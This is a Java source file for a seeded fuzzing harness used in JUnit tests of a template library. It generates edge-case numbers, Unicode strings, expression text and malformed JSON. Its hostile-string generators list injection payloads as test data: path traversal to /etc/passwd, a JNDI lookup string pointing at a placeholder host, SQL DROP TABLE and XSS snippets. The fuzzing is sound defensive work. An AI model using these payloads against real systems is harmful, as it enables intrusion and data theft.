package io.tempera.template;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import java.math.BigInteger;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.function.Function;
import java.util.function.Supplier;
import java.util.random.RandomGenerator;

/**
 * Seeded fuzzing for plain JUnit tests: {@link #forAll} runs a check on generated samples, each try
 * with its own random generator derived from the seed, the check's name and the try's index, so a
 * failing try can be replayed alone.
 *
 * <ul>
 *   <li>{@code -Dtempera.fuzz.seed=<long>} another seed than {@link #DEFAULT_SEED} (decimal or 0x…)
 *   <li>{@code -Dtempera.fuzz.tries=<n>} n tries for every check instead of its own count
 *   <li>{@code -Dtempera.fuzz.try=<i>} only the i-th try (to replay a failure)
 * </ul>
 *
 * <p>The generators favour edge cases (bounds, 0, empty, the extremes of a type) as well as uniform
 * values: strings with unicode, control characters, lone surrogates and huge lengths; numbers at
 * their bounds, NaN and the infinities, BigIntegers; nested lists and maps; hostile strings;
 * expression-shaped text (the grammar, token soup, deep nesting) and JSON values that are wrong in
 * interesting ways for a template's fields.
 */
final class Fuzz {

  static final long DEFAULT_SEED = 0x7E3D_5A11_C0FF_EE42L;

  private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

  private final RandomGenerator random;

  private Fuzz(long seed) {
    this.random = new SplittableRandom(seed);
  }

  /** A generator for one try; for use outside {@link #forAll}. */
  static Fuzz of(long seed) {
    return new Fuzz(seed);
  }

  static long seed() {
    String given = System.getProperty("tempera.fuzz.seed");
    return given == null || given.isBlank() ? DEFAULT_SEED : Long.decode(given.strip());
  }

  static int tries(int tries) {
    String given = System.getProperty("tempera.fuzz.tries");
    return given == null || given.isBlank() ? tries : Integer.parseInt(given.strip());
  }

  /** A check of one sample; any Throwable fails it. */
  @FunctionalInterface
  interface Check<T> {
    void accept(T sample) throws Exception;
  }

  /**
   * Runs {@code check} on {@code tries} samples made by {@code generate}; a failure names the
   * check, the seed, the try and the sample, with the Throwable as its cause.
   */
  static <T> void forAll(String name, int tries, Function<Fuzz, T> generate, Check<T> check) {
    long seed = seed();
    int count = tries(tries);
    String only = System.getProperty("tempera.fuzz.try");
    int from = only == null || only.isBlank() ? 0 : Integer.parseInt(only.strip());
    int to = only == null || only.isBlank() ? count : from + 1;
    for (int i = from; i < to; i++) {
      T sample = null;
      try {
        sample = generate.apply(new Fuzz(trySeed(seed, name, i)));
        check.accept(sample);
      } catch (Throwable e) {
        if (e instanceof VirtualMachineError && !(e instanceof StackOverflowError)) {
          throw (VirtualMachineError) e;
        }
        String shown = String.valueOf(sample);
        throw new AssertionError(
            name
                + " failed at try "
                + i
                + " of "
                + count
                + " with seed "
                + seed
                + " (replay: -Dtempera.fuzz.seed="
                + seed
                + " -Dtempera.fuzz.try="
                + i
                + ")\nsample: "
                + (shown.length() > 2000
                    ? shown.substring(0, 2000) + "…(" + shown.length() + ")"
                    : shown)
                + "\n"
                + e,
            e);
      }
    }
  }

  private static long trySeed(long seed, String name, int index) {
    return mix(mix(seed ^ mix(name.hashCode())) + index);
  }

  private static long mix(long z) {
    z = (z ^ (z >>> 30)) * 0xBF58476D1CE4E5B9L;
    z = (z ^ (z >>> 27)) * 0x94D049BB133111EBL;
    return z ^ (z >>> 31);
  }

  // ----- choices

  boolean bool() {
    return random.nextBoolean();
  }

  /** One of 0 to n - 1, each as likely. */
  int choice(int n) {
    return random.nextInt(n);
  }

  /** True with probability p. */
  boolean chance(double p) {
    return random.nextDouble() < p;
  }

  /** Null with probability p, else the supplier's value. */
  <T> T orNull(double p, Supplier<? extends T> value) {
    return chance(p) ? null : value.get();
  }

  @SafeVarargs
  final <T> T of(T... choices) {
    return choices[random.nextInt(choices.length)];
  }

  <T> T of(List<? extends T> choices) {
    return choices.get(random.nextInt(choices.size()));
  }

  /** One of the suppliers, each as likely. */
  @SafeVarargs
  final <T> T oneOf(Supplier<? extends T>... choices) {
    return choices[random.nextInt(choices.length)].get();
  }

  /** An index, weighted: weighted(6, 1) gives 0 six times as often as 1. */
  int weighted(int... weights) {
    int total = 0;
    for (int w : weights) {
      total += w;
    }
    int r = random.nextInt(total);
    for (int i = 0; i < weights.length; i++) {
      r -= weights[i];
      if (r < 0) {
        return i;
      }
    }
    throw new IllegalStateException();
  }

  /** A list of min to max elements (shorter lengths and the bounds favoured). */
  <T> List<T> list(int min, int max, Supplier<? extends T> element) {
    int size = size(min, max);
    List<T> out = new ArrayList<>(size);
    for (int i = 0; i < size; i++) {
      out.add(element.get());
    }
    return out;
  }

  /** A map of up to max entries (fewer when keys repeat). */
  <K, V> Map<K, V> map(int max, Supplier<? extends K> key, Supplier<? extends V> value) {
    int size = size(0, max);
    Map<K, V> out = new LinkedHashMap<>();
    for (int i = 0; i < size; i++) {
      out.put(key.get(), value.get());
    }
    return out;
  }

  /**
   * A value nested up to maxDepth deep (the depth uniform in 0..maxDepth): at depth 0 a leaf, else
   * a list or a map (keys: strings of up to 4 chars) of up to 3 values one level less deep.
   */
  Object nested(int maxDepth, Supplier<Object> leaf) {
    return nestedAt(between(0, maxDepth), leaf);
  }

  private Object nestedAt(int depth, Supplier<Object> leaf) {
    if (depth == 0) {
      return leaf.get();
    }
    return bool()
        ? list(0, 3, () -> nestedAt(depth - 1, leaf))
        : map(3, () -> string(4), () -> nestedAt(depth - 1, leaf));
  }

  private int size(int min, int max) {
    return switch (random.nextInt(10)) {
      case 0 -> min;
      case 1 -> max;
      default -> between(min, max);
    };
  }

  // ----- numbers

  /** Uniform in [lo, hi] (both inclusive), the bounds more often. */
  int between(int lo, int hi) {
    return (int) between((long) lo, hi);
  }

  /** Uniform in [lo, hi] (both inclusive), the bounds and their neighbours more often. */
  long between(long lo, long hi) {
    if (lo > hi) {
      throw new IllegalArgumentException(lo + " > " + hi);
    }
    int edge = random.nextInt(20);
    if (edge == 0) {
      return lo;
    }
    if (edge == 1) {
      return hi;
    }
    if (edge == 2 && lo < hi) {
      return random.nextBoolean() ? lo + 1 : hi - 1;
    }
    long span = hi - lo; // negative when it overflows
    if (span >= 0 && span < Long.MAX_VALUE) {
      return lo + random.nextLong(span + 1);
    }
    long x;
    do {
      x = random.nextLong(); // at least half of all longs are in range
    } while (x < lo || x > hi);
    return x;
  }

  /** Any int: small ones, the extremes, and uniform over the whole range. */
  int anyInt() {
    return switch (random.nextInt(8)) {
      case 0 -> of(0, 1, -1, Integer.MIN_VALUE, Integer.MAX_VALUE, Integer.MIN_VALUE + 1);
      case 1, 2, 3 -> random.nextInt(-1000, 1001);
      default -> random.nextInt();
    };
  }

  /** Any long: small ones, the extremes, around 2^31, 2^53 and 2^63, uniform. */
  long anyLong() {
    return switch (random.nextInt(10)) {
      case 0 ->
          of(0L, 1L, -1L, Long.MIN_VALUE, Long.MAX_VALUE, Long.MIN_VALUE + 1, Long.MAX_VALUE - 1);
      case 1 ->
          of(1L << 53, -(1L << 53), 1L << 31, -(1L << 31), 1L << 32, 1L << 62, -(1L << 62))
              + random.nextLong(-2, 3);
      case 2, 3, 4 -> random.nextLong(-1000, 1001);
      case 5 -> random.nextLong(-(1L << 53), (1L << 53) + 1);
      default -> random.nextLong();
    };
  }

  /** A finite double: small, integral, uniform in ±1e6, any exponent, the extremes. */
  double anyDouble() {
    return switch (random.nextInt(10)) {
      case 0 ->
          of(0.0, -0.0, 1.0, -1.0, Double.MIN_VALUE, -Double.MIN_VALUE, Double.MAX_VALUE)
              * (random.nextBoolean() ? 1 : -1);
      case 1 -> (double) random.nextLong(-1000, 1001);
      case 2, 3, 4 -> random.nextDouble(-1e6, 1e6);
      case 5 -> random.nextDouble(-1, 1);
      default -> {
        double d = Double.longBitsToDouble(random.nextLong());
        yield Double.isFinite(d) ? d : random.nextDouble();
      }
    };
  }

  /** NaN, the infinities, -0.0 and the extremes of a double. */
  double specialDouble() {
    return of(
        Double.NaN,
        Double.POSITIVE_INFINITY,
        Double.NEGATIVE_INFINITY,
        -0.0,
        Double.MAX_VALUE,
        -Double.MAX_VALUE,
        Double.MIN_VALUE,
        Double.MIN_NORMAL);
  }

  /** Uniform in [lo, hi], the bounds more often. */
  double between(double lo, double hi) {
    if (!(lo <= hi)) {
      throw new IllegalArgumentException(lo + " > " + hi);
    }
    int edge = random.nextInt(20);
    if (edge == 0 || lo == hi) {
      return lo;
    }
    if (edge == 1) {
      return hi;
    }
    if (edge == 2 && lo <= 0 && hi >= 0) {
      return 0.0;
    }
    double span = hi - lo;
    if (Double.isFinite(span)) {
      return Math.min(hi, lo + random.nextDouble() * span);
    }
    double mid = lo / 2 + hi / 2;
    double half = hi / 2 - lo / 2;
    return Math.min(hi, Math.max(lo, mid + (2 * random.nextDouble() - 1) * half));
  }

  /** A double in [lo, hi] rounded to scale decimal places. */
  double between(double lo, double hi, int scale) {
    double factor = Math.pow(10, scale);
    double x = Math.round(between(lo, hi) * factor) / factor;
    return Math.max(lo, Math.min(hi, x));
  }

  /** A finite float, the extremes and small ones included. */
  float anyFloat() {
    return switch (random.nextInt(6)) {
      case 0 -> of(0f, -0f, 1f, -1f, Float.MIN_VALUE, Float.MAX_VALUE, -Float.MAX_VALUE);
      case 1, 2 -> (float) random.nextDouble(-1e6, 1e6);
      default -> {
        float f = Float.intBitsToFloat(random.nextInt());
        yield Float.isFinite(f) ? f : random.nextFloat();
      }
    };
  }

  /** Uniform in [lo, hi] (both inclusive), the bounds and 0 more often. */
  BigInteger between(BigInteger lo, BigInteger hi) {
    int edge = random.nextInt(20);
    if (edge == 0) {
      return lo;
    }
    if (edge == 1) {
      return hi;
    }
    if (edge == 2 && lo.signum() <= 0 && hi.signum() >= 0) {
      return BigInteger.ZERO;
    }
    BigInteger span = hi.subtract(lo).add(BigInteger.ONE);
    int bits = span.bitLength();
    byte[] bytes = new byte[(bits + 7) / 8];
    BigInteger r;
    do {
      random.nextBytes(bytes);
      r = new BigInteger(1, bytes).shiftRight(bytes.length * 8 - bits);
    } while (r.compareTo(span) >= 0);
    return lo.add(r);
  }

  // ----- strings

  /** Any chars (unicode, control chars, lone surrogates, pairs), up to maxLength of them. */
  String string(int maxLength) {
    return string(0, maxLength);
  }

  String string(int minLength, int maxLength) {
    int length = size(minLength, maxLength);
    StringBuilder out = new StringBuilder(length);
    while (out.length() < length) {
      switch (random.nextInt(10)) {
        case 0, 1, 2, 3 -> out.append((char) random.nextInt(0x20, 0x7f));
        case 4 -> out.append((char) random.nextInt(0, 0x20));
        case 5 ->
            out.append(
                of(
                    '\u0000', '\u007f', '\u0085', '\u00a0', '\u200b', '\u202e', '\u2028', '\ufeff',
                    '\uffff', '\ud800', '\udfff', '"', '\\', '$', '{', '}', '\'', '/', '.'));
        case 6 -> {
          if (out.length() + 2 <= length) {
            out.appendCodePoint(random.nextInt(0x10000, 0x110000));
          } else {
            out.append((char) random.nextInt(0xd800, 0xe000)); // a lone surrogate
          }
        }
        default -> out.append((char) random.nextInt(0, 0x10000));
      }
    }
    return out.toString();
  }

  /** Chars from the given ones. */
  String string(String chars, int minLength, int maxLength) {
    int length = size(minLength, maxLength);
    StringBuilder out = new StringBuilder(length);
    for (int i = 0; i < length; i++) {
      out.append(chars.charAt(random.nextInt(chars.length())));
    }
    return out.toString();
  }

  /** Chars in [from, to]. */
  String string(char from, char to, int maxLength) {
    int length = size(0, maxLength);
    StringBuilder out = new StringBuilder(length);
    for (int i = 0; i < length; i++) {
      out.append((char) random.nextInt(from, to + 1));
    }
    return out.toString();
  }

  /** Strings that try to be something else: paths, templates, JSON, injections, odd chars, huge. */
  String hostile() {
    return oneOf(
        () ->
            of(
                "../../../etc/passwd",
                "..\\..\\windows\\win.ini",
                "/etc/passwd",
                "${jndi:ldap://evil/x}",
                "${prompt}",
                "#{1+1}",
                "{{7*7}}",
                "\", \"class_type\": \"Evil\", \"x\": \"",
                "{\"999\": {\"class_type\": \"SaveImage\", \"inputs\": {}}}",
                "[\"1\", 0]",
                "1.inputs.width",
                "$gradio",
                "tier",
                "null",
                "true",
                "42",
                "\u0000\u001f\u007f",
                "\uD83D\uDE00\u202E\u200B",
                "'; DROP TABLE x; --",
                "<script>alert(1)</script>"),
        () -> string(40),
        () -> {
          String s = "{\"a\":[".repeat(between(1000, 10_500) / 6);
          return s.length() > 10_000 ? s.substring(0, 10_000) : s;
        });
  }

  // ----- expressions

  private static final List<String> OPERATORS =
      List.of("+", "-", "*", "/", "%", "<", "<=", ">", ">=", "==", "!=", "&&", "||");

  private static final List<String> TOKENS =
      List.of(
          "(",
          ")",
          "+",
          "-",
          "*",
          "/",
          "%",
          "?",
          ":",
          "!",
          "&&",
          "||",
          "<",
          ">=",
          "==",
          "!=",
          "'",
          "'a'",
          "1",
          "0",
          "2.5",
          "1e5",
          "99999999999999999999",
          "..",
          "tier",
          "scale",
          "mood",
          "size",
          "soft",
          "width",
          "min(",
          "max(",
          "round(",
          "abs(",
          ",",
          "system(",
          "\u0661",
          " ");

  /** Well-formed expressions of the grammar, nested up to maxDepth (the depth uniform). */
  String expressionGrammar(int maxDepth) {
    return grammarAt(between(0, maxDepth));
  }

  private String grammarAt(int depth) {
    if (depth == 0) {
      return oneOf(
          () -> of("a", "b", "tier", "true", "false", "'x'", "''", "'draft'"),
          () -> String.valueOf(bool() ? between(0L, 100L) : between(0L, Long.MAX_VALUE)),
          () -> of("0", "0.5", "2.0", "1" + "0".repeat(400) + ".0", "9223372036854775807"));
    }
    int d = depth - 1;
    return switch (random.nextInt(7)) {
      case 0 -> grammarAt(d) + " " + of(OPERATORS) + " " + grammarAt(d);
      case 1 -> "(" + grammarAt(d) + ")";
      case 2 -> "-" + grammarAt(d);
      case 3 -> "!" + grammarAt(d);
      case 4 -> grammarAt(d) + " ? " + grammarAt(d) + " : " + grammarAt(d);
      case 5 -> of("min", "max", "round", "floor", "ceil", "abs") + "(" + grammarAt(d) + ")";
      default -> of("min", "max") + "(" + grammarAt(d) + ", " + grammarAt(d) + ")";
    };
  }

  /** Expression-shaped text: the grammar's pieces in any order, and very deep nesting. */
  String expressionSoup() {
    return switch (random.nextInt(6)) {
      case 0 -> String.join("", list(1, 12, () -> of(TOKENS)));
      case 1 -> {
        int n = between(1, 20_000);
        yield "(".repeat(n) + "1" + ")".repeat(n);
      }
      case 2 -> "-".repeat(between(1, 20_000)) + "1";
      case 3 -> "!".repeat(between(1, 20_000)) + "soft";
      case 4 -> {
        int n = between(1, 5_000);
        yield "1 ? ".repeat(n) + "1" + " : 0".repeat(n);
      }
      default -> {
        int n = between(1, 5_000);
        yield "abs(".repeat(n) + "1" + ")".repeat(n);
      }
    };
  }

  // ----- JSON for templates

  /** Values that are wrong in interesting ways for some field of a template. */
  JsonNode templateValue() {
    return switch (random.nextInt(5)) {
      case 0 ->
          of(
              NODES.nullNode(),
              NODES.booleanNode(true),
              NODES.booleanNode(false),
              NODES.numberNode(0),
              NODES.numberNode(-1),
              NODES.numberNode(1),
              NODES.numberNode(0.5),
              NODES.numberNode(Long.MAX_VALUE),
              NODES.numberNode(Long.MIN_VALUE),
              NODES.numberNode(Integer.MAX_VALUE + 2L),
              NODES.numberNode(4_294_967_297L), // 2^32 + 1: asInt() would read 1
              NODES.numberNode(1e308),
              NODES.numberNode(-1e308),
              NODES.numberNode(BigInteger.TEN.pow(40)),
              NODES.numberNode(BigInteger.TWO.pow(64).add(BigInteger.ONE)),
              NODES.textNode(""),
              NODES.textNode(" "),
              NODES.textNode("string"),
              NODES.textNode("integer"),
              NODES.textNode("image"),
              NODES.textNode("lookup"),
              NODES.textNode("computed"),
              NODES.textNode("model_file"),
              NODES.textNode("file_upload"),
              NODES.textNode("1.inputs.width"),
              NODES.textNode("999.inputs.x"),
              NODES.textNode(".inputs."),
              NODES.textNode("../../etc/passwd"),
              NODES.textNode("/etc/passwd"),
              NODES.textNode("${jndi:ldap://x}"),
              NODES.textNode("{\"a\": 1}"),
              NODES.textNode("draft"),
              NODES.textNode("tier"),
              NODES.objectNode(),
              NODES.arrayNode(),
              NODES.arrayNode().addNull(),
              NODES.arrayNode().addNull().add("a").add(1),
              NODES.objectNode().putNull("type"),
              NODES.objectNode().put("type", "integer").put("min", 5).put("max", 1),
              NODES.objectNode().put("type", "string").set("enum", NODES.arrayNode().addNull()),
              NODES.objectNode().put("type", "integer").put("default", 1e300));
      case 1 -> NODES.textNode(expressionSoup());
      case 2 -> NODES.textNode(string(40));
      case 3 -> NODES.textNode("x".repeat(between(1, 3000) * 100));
      default -> nestedArrays(between(1, 900));
    };
  }

  /** Mostly plausible, sometimes wrong, values for one field. */
  JsonNode smallValue() {
    if (random.nextBoolean()) {
      return NODES.numberNode(anyInt());
    }
    return of(
        NODES.nullNode(),
        NODES.booleanNode(true),
        NODES.booleanNode(false),
        NODES.numberNode(1),
        NODES.numberNode(50),
        NODES.numberNode(-3),
        NODES.numberNode(2.5),
        NODES.numberNode(4_294_967_297L),
        NODES.numberNode(BigInteger.TWO.pow(64).add(BigInteger.ONE)),
        NODES.numberNode(1e308),
        NODES.textNode("calm"),
        NODES.textNode("x"),
        NODES.textNode(""),
        NODES.textNode("uploads/a.png"),
        NODES.objectNode(),
        NODES.objectNode().put("calm", 1).put("warm", 2).put("night", 3),
        NODES.objectNode().set("draft", NODES.objectNode().put("1.inputs.width", 8)),
        NODES.arrayNode(),
        NODES.arrayNode().addNull());
  }

  /** Arrays in arrays, n deep: Jackson refuses beyond 1000 on reading. */
  static JsonNode nestedArrays(int depth) {
    JsonNode node = NODES.numberNode(1);
    for (int i = 0; i < depth; i++) {
      node = NODES.arrayNode().add(node);
    }
    return node;
  }
}
